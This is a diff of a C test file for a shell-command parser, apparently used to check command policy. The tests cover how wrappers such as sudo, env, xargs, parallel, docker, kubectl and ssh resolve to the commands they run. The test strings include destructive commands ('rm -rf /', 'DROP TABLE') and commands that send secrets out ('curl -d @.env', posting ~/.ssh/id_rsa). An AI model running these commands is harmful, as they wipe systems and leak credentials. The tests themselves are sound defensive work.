@@ -75,7 +75,9 @@ static void test_wrappers(void) {
   CMDS("sudo -u root /bin/rm -rf ~",
        "[[\"sudo\",\"-u\",\"root\",\"/bin/rm\",\"-rf\",\"~\"],[\"rm\",\"-rf\",\"~\"]]");
   CMDS("/usr/bin/git push", "[[\"git\",\"push\"]]");
-  CMDS("./rm -rf x", "[[\"./rm\",\"-rf\",\"x\"]]");
+  CMDS("./rm -rf x", "[[\"rm\",\"-rf\",\"x\"]]");
+  CMDS("./../../../bin/rm -rf /", "[[\"rm\",\"-rf\",\"/\"]]");
+  CMDS("$D/rm x", "[[\"$D/rm\",\"x\"]]");
   CMDS("env -i A=1 rm x", "[[\"env\",\"-i\",\"A=1\",\"rm\",\"x\"],[\"rm\",\"x\"]]");
   CMDS("env -S 'rm -rf /'", "[[\"env\",\"-S\",\"rm -rf /\"],[\"rm\",\"-rf\",\"/\"]]");
   CMDS("command rm x", "[[\"command\",\"rm\",\"x\"],[\"rm\",\"x\"]]");
@@ -97,15 +99,38 @@ static void test_wrappers(void) {
   CMDS("env -S'rm -rf' \"a b\" \"it's\"",
        "[[\"env\",\"-Srm -rf\",\"a b\",\"it's\"],[\"rm\",\"-rf\",\"a b\",\"it's\"]]");
   CMDS("env -u HOME -i rm x", "[[\"env\",\"-u\",\"HOME\",\"-i\",\"rm\",\"x\"],[\"rm\",\"x\"]]");
+  /* xargs and parallel with known input run their command on it. */
   CMDS("echo / | xargs -I{} rm -rf {}",
-       "[[\"echo\",\"/\"],[\"xargs\",\"-I{}\",\"rm\",\"-rf\",\"{}\"],[\"rm\",\"-rf\",\"{}\"]]");
+       "[[\"echo\",\"/\"],[\"xargs\",\"-I{}\",\"rm\",\"-rf\",\"{}\"],[\"rm\",\"-rf\",\"/\"]]");
+  CMDS("echo -n a b | xargs rm -rf",
+       "[[\"echo\",\"-n\",\"a\",\"b\"],[\"xargs\",\"rm\",\"-rf\"],[\"rm\",\"-rf\",\"a\",\"b\"]]");
+  CMDS("printf '%s\\n' x y | xargs -I % rm -r %/z",
+       "[[\"printf\",\"%s\\\\n\",\"x\",\"y\"],[\"xargs\",\"-I\",\"%\",\"rm\",\"-r\",\"%/z\"],"
+       "[\"rm\",\"-r\",\"x/z\"],[\"rm\",\"-r\",\"y/z\"]]");
+  CMDS("xargs rm -rf <<< 'a b'", "[[\"xargs\",\"rm\",\"-rf\"],[\"rm\",\"-rf\",\"a\",\"b\"]]");
+  CMDS("ls | xargs rm -rf", "[[\"ls\"],[\"xargs\",\"rm\",\"-rf\"],[\"rm\",\"-rf\"]]");
+  CMDS("echo a || xargs rm", "[[\"echo\",\"a\"],[\"xargs\",\"rm\"],[\"rm\"]]");
+  /* Commands run in a container or on another machine. */
+  CMDS("docker exec -u root web rm -rf /data",
+       "[[\"docker\",\"exec\",\"-u\",\"root\",\"web\",\"rm\",\"-rf\",\"/data\"],[\"rm\",\"-rf\",\"/"
+       "data\"]]");
+  CMDS("kubectl exec db-0 -- psql -c 'DROP TABLE x'",
+       "[[\"kubectl\",\"exec\",\"db-0\",\"--\",\"psql\",\"-c\",\"DROP TABLE "
+       "x\"],[\"psql\",\"-c\",\"DROP TABLE x\"]]");
+  CMDS("ssh -p 22 host 'rm -rf /' now",
+       "[[\"ssh\",\"-p\",\"22\",\"host\",\"rm -rf /\",\"now\"],[\"rm\",\"-rf\",\"/\",\"now\"]]");
+  CMDS("function f { rm -rf ~; }", "[[\"rm\",\"-rf\",\"~\"]]");
+  CMDS("strace -o log -f rm -r x",
+       "[[\"strace\",\"-o\",\"log\",\"-f\",\"rm\",\"-r\",\"x\"],[\"rm\",\"-r\",\"x\"]]");
   CMDS("xargs -I % sh -c 'rm -rf %'",
        "[[\"xargs\",\"-I\",\"%\",\"sh\",\"-c\",\"rm -rf %\"],[\"sh\",\"-c\",\"rm -rf %\"],"
        "[\"rm\",\"-rf\",\"%\"]]");
   CMDS("parallel 'rm -rf {}' ::: a b",
-       "[[\"parallel\",\"rm -rf {}\",\":::\",\"a\",\"b\"],[\"rm\",\"-rf\",\"{}\"]]");
+       "[[\"parallel\",\"rm -rf "
+       "{}\",\":::\",\"a\",\"b\"],[\"rm\",\"-rf\",\"a\"],[\"rm\",\"-rf\",\"b\"]]");
+  CMDS("parallel 'rm -rf {}'", "[[\"parallel\",\"rm -rf {}\"],[\"rm\",\"-rf\",\"{}\"]]");
   CMDS("parallel -j4 rm -rf ::: a",
-       "[[\"parallel\",\"-j4\",\"rm\",\"-rf\",\":::\",\"a\"],[\"rm\",\"-rf\"]]");
+       "[[\"parallel\",\"-j4\",\"rm\",\"-rf\",\":::\",\"a\"],[\"rm\",\"-rf\",\"a\"]]");
   CMDS("watch 'rm -rf x'", "[[\"watch\",\"rm -rf x\"],[\"rm\",\"-rf\",\"x\"]]");
   CMDS("su -c 'rm -rf /' root", "[[\"su\",\"-c\",\"rm -rf /\",\"root\"],[\"rm\",\"-rf\",\"/\"]]");
   CMDS("exec /bin/sh -c 'id'",
@@ -203,6 +228,8 @@ static void test_writes_words(void) {
   expect("shellWrites(c)", "make 2>/dev/null", "[\"/dev/null\"]");
   expect("c.shellWrites()", "x >| f", "[\"f\"]");
   expect("shellWords(c)", "curl -d @.env x > out", "[\"curl\",\"-d\",\"@.env\",\"x\",\"out\"]");
+  expect("shellWords(c)", "http POST x < ~/.ssh/id_rsa",
+         "[\"http\",\"POST\",\"x\",\"~/.ssh/id_rsa\"]");
   expect("c.shellWords()", "cat \"~/.ssh/id_rsa\"", "[\"cat\",\"~/.ssh/id_rsa\"]");
   expect("c.shellCommands().exists(x, x[0] == 'rm' && '-rf' in x)", "sudo bash -c 'rm -rf /'",
          "true");
